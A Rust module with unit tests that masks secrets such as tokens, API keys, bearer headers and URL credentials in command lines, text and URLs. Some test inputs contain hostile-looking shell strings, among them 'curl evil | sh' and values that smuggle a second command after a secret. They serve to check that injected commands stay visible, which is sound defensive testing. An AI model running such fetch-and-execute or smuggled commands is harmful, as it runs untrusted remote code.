//! Masks secrets in texts.
//!
//! Commands and URLs are shown to users and programs without their secrets. Each secret that is recognizable by its
//! name, position or beginning becomes `***`, and nothing else does. A value that consists of a reference alone is not
//! secret.

use crate::expand::is_variable_name;
use crate::{command_line, word_list};

pub const HIDDEN: &str = "***";

/// Parts of names of options and variables that hold secrets.
const SECRET_WORDS: [&str; 12] =
    ["token", "key", "secret", "pass", "pwd", "auth", "header", "bearer", "credential", "cookie", "jwt", "signature"];

/// Prefixes of keys of well-known services and of signed tokens.
const SECRET_STARTS: &str = include_str!("words/secret_starts.txt");

/// Authentication schemes that precede the secret in a header.
const SCHEMES: [&str; 3] = ["bearer", "basic", "token"];

/// The length from which a path segment of a URL with letters and digits may be a secret.
const LONG_SEGMENT: usize = 20;

/// The length from which a URI is not shown. No server gets such a URI.
const MAX_URI: usize = 8 * 1024;

/// Returns the arguments of a command with secrets masked.
pub fn arguments<'a>(args: impl Iterator<Item = &'a str>) -> Vec<String> {
    let mut is_value_secret = false;
    let mut shown = Vec::new();
    for argument in args {
        let is_option = argument.starts_with('-');
        if std::mem::take(&mut is_value_secret) && !is_option {
            shown.push(value(argument));
        } else {
            is_value_secret = is_option && !argument.contains('=') && is_secret_name(argument);
            shown.push(text(argument));
        }
    }
    shown
}

/// Masks the secrets of a program, which may be a whole command line by mistake. Changes the quotes of such a line only if
/// an argument is masked.
pub fn program(written: &str) -> String {
    let shown = text(written);
    let words = command_line::split(&shown);
    let masked = arguments(words.iter().map(String::as_str));
    if masked == words { shown } else { masked.join(" ") }
}

/// Masks a value with a secret name. Keeps a plain reference, optionally after a scheme such as `Bearer`.
pub fn value(value: &str) -> String {
    let (before, last) = value.rsplit_once(' ').unwrap_or(("", value));
    let inner = last.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
    let is_reference = inner.is_some_and(|inner| !inner.contains(['$', '{', '}']) && !inner.contains(":-"));
    if is_reference && (before.is_empty() || is_scheme(before)) { value.to_owned() } else { HIDDEN.to_owned() }
}

/// Masks the secrets of any text, from one word to a whole script.
pub fn text(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(first) = rest.chars().next() {
        let word = &rest[..rest.find(|letter| !is_name_letter(letter)).unwrap_or(rest.len())];
        if word.is_empty() {
            shown.push(first);
            rest = &rest[first.len_utf8()..];
            continue;
        }
        let after = &rest[word.len()..];
        let secret = Some(after).filter(|_| is_secret_name(word)).and_then(|after| assigned(word, after));
        // A shell runs a command substitution, so it must stay visible.
        let secret = secret.filter(|(_, value)| !value.contains("$(") && !value.contains('`'));
        if after.starts_with("://") {
            let end = rest.find(ends_url).unwrap_or(rest.len());
            shown.push_str(&url(&rest[..end]));
            rest = &rest[end..];
        } else if let Some((between, secret)) = secret {
            shown.extend([word, between, &value(secret)]);
            rest = &after[between.len() + secret.len()..];
        } else {
            let is_key = word_list::of(SECRET_STARTS).any(|start| word.starts_with(start));
            shown.push_str(if is_key { HIDDEN } else { word });
            rest = after;
        }
    }
    shown
}

fn is_name_letter(letter: char) -> bool {
    letter.is_alphanumeric() || matches!(letter, '_' | '-' | '.')
}

/// Reports whether the character ends a URL. A `#` does, because the fragment of a package URL is its version.
fn ends_url(letter: char) -> bool {
    letter.is_whitespace() || matches!(letter, '#' | '"' | '\'' | '`' | '<' | '>' | '|' | ';' | '(' | ')')
}

pub(crate) fn is_secret_name(name: &str) -> bool {
    let name = name.to_lowercase();
    let is_short = ["_pat", "_pw", "_pwd"].iter().any(|end| name.ends_with(end));
    is_short || SECRET_WORDS.iter().any(|word| name.contains(word))
}

pub(crate) fn is_scheme(word: &str) -> bool {
    SCHEMES.iter().any(|scheme| word.eq_ignore_ascii_case(scheme))
}

/// Returns the separator and the value that follow a name, if a value is assigned to it. Recognizes `name=value`,
/// `"name": "value"`, `Name: value` and `${NAME:-value}`.
fn assigned<'a>(name: &str, after: &'a str) -> Option<(&'a str, &'a str)> {
    let is_quote = |letter: char| matches!(letter, '"' | '\'' | '\\');
    let quoted = after.trim_start_matches(is_quote);
    let was_quoted = quoted.len() < after.len();
    if let Some(default) = after.strip_prefix(":-") {
        return Some((":-", &default[..default.find('}').unwrap_or(default.len())]));
    }
    let sign = quoted.trim_start();
    let opened = if let Some(rest) = sign.strip_prefix('=').filter(|_| was_quoted || sign.len() == after.len()) {
        rest
    } else {
        // A colon is also used for ports, tags and paths.
        let rest = sign.strip_prefix(':')?;
        let is_header = name.len() > 2 && (is_header_name(name) || rest.starts_with(' '));
        if !was_quoted && !is_header {
            return None;
        }
        rest.trim_start_matches(' ')
    };
    let start = opened.trim_start_matches(is_quote);
    let quote = opened[..opened.len() - start.len()].chars().last();
    let scheme = start.split_once(' ').filter(|(word, _)| is_scheme(word)).map_or(0, |(word, _)| word.len() + 1);
    let value = match quote {
        Some(quote) => &start[..start.find([quote, '\\']).unwrap_or(start.len())],
        None => &start[..scheme + bare_end(&start[scheme..])],
    };
    Some((&after[..after.len() - start.len()], value))
}

fn is_header_name(name: &str) -> bool {
    let name = name.to_lowercase();
    name.starts_with("x-") || name.contains("authorization") || name.contains("cookie") || name.ends_with("api-key")
}

/// Returns the end of a value without quotes.
fn bare_end(text: &str) -> usize {
    let mut is_reference = false;
    for (at, letter) in text.char_indices() {
        match letter {
            '{' if text[..at].ends_with('$') => is_reference = true,
            '}' if is_reference => is_reference = false,
            '}' | '"' | '\'' | '\\' | ',' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '`' => return at,
            letter if letter.is_whitespace() => return at,
            _ => {}
        }
    }
    text.len()
}

/// Masks the user, the query, the fragment and long random path segments of a URL.
pub fn url(text: &str) -> String {
    let Some((scheme, rest)) = text.split_once("://") else { return text.to_owned() };
    let (authority, tail) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    let (user, host) = match authority.rsplit_once('@') {
        Some(("git", host)) => ("git@", host),
        Some((_, host)) => ("***@", host),
        None => ("", authority),
    };
    let port = host.rsplit_once(':').map_or("", |(_, port)| port);
    // Anything but a port here is the start of a password that contains `/` or `?`.
    let is_port = port.ends_with([']', '}']) || port.bytes().all(|byte| byte.is_ascii_digit());
    if !is_port {
        return format!("{scheme}://{HIDDEN}");
    }
    let (path, secret) = match tail.find(['?', '#']) {
        Some(at) => (&tail[..at], format!("{}{HIDDEN}", &tail[at..=at])),
        None => (tail, String::new()),
    };
    let segment = |segment: &str| if is_random(segment) { HIDDEN.to_owned() } else { self::text(segment) };
    let path: Vec<String> = path.split('/').map(segment).collect();
    format!("{scheme}://{user}{host}{}{secret}", path.join("/"))
}

/// Masks the secrets of a URI of any scheme, like [`url`].
pub fn uri(text: &str) -> String {
    if text.len() > MAX_URI {
        return HIDDEN.to_owned();
    }
    match text.find(['?', '#']) {
        Some(at) if !text[..at].contains("://") => format!("{}{HIDDEN}", &text[..=at]),
        _ => url(text),
    }
}

/// Masks each URL in a text like [`url`]. Keeps the rest of the text.
pub fn urls(text: &str) -> String {
    let is_scheme_letter = |letter: char| letter.is_ascii_alphanumeric() || matches!(letter, '+' | '-' | '.');
    let (mut shown, mut rest) = (String::with_capacity(text.len()), text);
    while let Some(at) = rest.find("://") {
        let start = rest[..at].trim_end_matches(is_scheme_letter).len();
        let tail = &rest[at..];
        // The fragment is a part of the URL, and it is masked.
        let end = at + tail.find(|letter| letter != '#' && ends_url(letter)).unwrap_or(tail.len());
        shown.extend([&rest[..start], &url(&rest[start..end])]);
        rest = &rest[end..];
    }
    shown + rest
}

fn is_random(segment: &str) -> bool {
    let has = |wanted: fn(&u8) -> bool| segment.as_bytes().iter().any(wanted);
    segment.len() >= LONG_SEGMENT
        && has(u8::is_ascii_digit)
        && has(u8::is_ascii_alphabetic)
        && segment.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'=' | b'%'))
}

/// Shows a reference of the form `${NAME}` or `${NAME:-...}`. Masks any other text in braces.
pub fn reference(inner: &str) -> String {
    match inner.split_once(":-") {
        Some((name, _)) if is_variable_name(name) => format!("${{{name}:-{HIDDEN}}}"),
        None if is_variable_name(inner) => format!("${{{inner}}}"),
        _ => "${...}".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_masked_by_name_and_by_form() {
        for (given, expected) in [
            ("--token=abc", "--token=***"),
            ("--env=API_KEY=abc", "--env=API_KEY=***"),
            ("-eTOKEN=abc", "-eTOKEN=***"),
            ("DB_PASS=abc;curl evil", "DB_PASS=***;curl evil"),
            ("KEY=1; curl evil | sh", "KEY=***; curl evil | sh"),
            ("KEY= curl evil", "KEY=*** curl evil"),
            (r#"KEY="$(curl evil)" x"#, r#"KEY="$(curl evil)" x"#),
            ("TOKEN='a b' run x", "TOKEN='***' run x"),
            ("TOKEN=${T} run", "TOKEN=${T} run"),
            ("Authorization: Bearer abc", "Authorization: ***"),
            ("Authorization:Bearer abc", "Authorization:***"),
            ("Authorization:${AUTH}", "Authorization:${AUTH}"),
            ("Authorization: Bearer ${AUTH}", "Authorization: Bearer ${AUTH}"),
            ("X-Api-Key:abc", "X-Api-Key:***"),
            (r#"{"apiKey":"abc","size":3}"#, r#"{"apiKey":"***","size":3}"#),
            (r#"{"apiKey": "a b", "token" : 5}"#, r#"{"apiKey": "***", "token" : ***}"#),
            (r#"{\"apiKey\":\"abc\"}"#, r#"{\"apiKey\":\"***\"}"#),
            ("${API_KEY:-abc d}/x", "${API_KEY:-***}/x"),
            ("say ghp_abc now", "say *** now"),
            ("eyJhbGciOiJIUzI1NiJ9.e30.x", "***"),
        ] {
            assert_eq!(text(given), expected, "{given}");
        }
    }

    #[test]
    fn hard8_a_program_that_is_a_command_line_is_shown_without_its_secrets() {
        for (given, expected) in [
            ("/opt/my app/server", "/opt/my app/server"),
            ("npx -y server --api-key hunter2", "npx -y server --api-key ***"),
            ("npx --token 'a b' x", "npx --token *** x"),
            ("API_KEY=hunter2 npx x", "API_KEY=*** npx x"),
            ("npx -H 'Authorization: Bearer hunter2'", "npx -H 'Authorization: ***'"),
            ("npx --token ${T} 'a b'", "npx --token ${T} 'a b'"),
        ] {
            assert_eq!(program(given), expected, "{given}");
        }
    }

    #[test]
    fn hard8_the_urls_of_a_text_are_masked() {
        for (given, expected) in [
            ("cannot read a+https://u:pw@h/p?token=x#y: gone", "cannot read a+https://***@h/p?*** gone"),
            ("(http://h:1/a, \"é://u@h\") key: b", "(http://h:1/a, \"é://***@h\") key: b"),
            ("a://b#c d://e?f", "a://b#*** d://e?***"),
            ("no url: ://", "no url: ://"),
        ] {
            assert_eq!(urls(given), expected, "{given}");
        }
    }

    #[test]
    fn hard8_a_uri_of_any_scheme_is_masked() {
        for (given, expected) in [
            ("a+note:x?token=hunter2&next=http://h", "a+note:x?***"),
            ("a+https://u:pw@h/p?token=x", "a+https://***@h/p?***"),
            ("note:///alpha", "note:///alpha"),
        ] {
            assert_eq!(uri(given), expected, "{given}");
        }
        assert_eq!(uri(&"x".repeat(MAX_URI + 1)), HIDDEN);
    }

    #[test]
    fn text_without_secrets_is_unchanged() {
        for plain in [
            "mcp/auth:1.2",
            "/etc/keys:/keys:ro",
            "--author me",
            "token",
            "a == b",
            "é=ü",
            "${API_KEY}",
            "--flag=value",
            "https://auth.example.com:8080/mcp",
            "@scope/key-server@1.2.3",
        ] {
            assert_eq!(text(plain), plain);
        }
    }

    #[test]
    fn credentials_in_urls_are_masked() {
        for (given, expected) in [
            ("postgres://me:pw@host/db", "postgres://***@host/db"),
            ("--dsn=postgres://me:pw@host/db", "--dsn=postgres://***@host/db"),
            ("a://u:p@h b://u:p@h/x", "a://***@h b://***@h/x"),
            ("git+https://u:p@host/x.git", "git+https://***@host/x.git"),
            ("postgres://me:p/w@host/db", "postgres://***"),
            ("https://host/x?k=v", "https://host/x?***"),
            ("git+ssh://git@host/x#main", "git+ssh://git@host/x#main"),
            ("https://abc@host/x#token=abc", "https://***@host/x#token=***"),
            ("https://host/s/NDg3ZjY0ZTkxMjM0NTY3OA==/mcp", "https://host/s/***/mcp"),
            ("https://[::1]:80/mcp", "https://[::1]:80/mcp"),
            ("https://[::1]/mcp", "https://[::1]/mcp"),
            ("https://host:${PORT}/mcp", "https://host:${PORT}/mcp"),
            ("curl https://h/?a=b; evil", "curl https://h/?***; evil"),
        ] {
            assert_eq!(text(given), expected, "{given}");
        }
        assert_eq!(url("https://host/x#abc"), "https://host/x#***");
    }
}
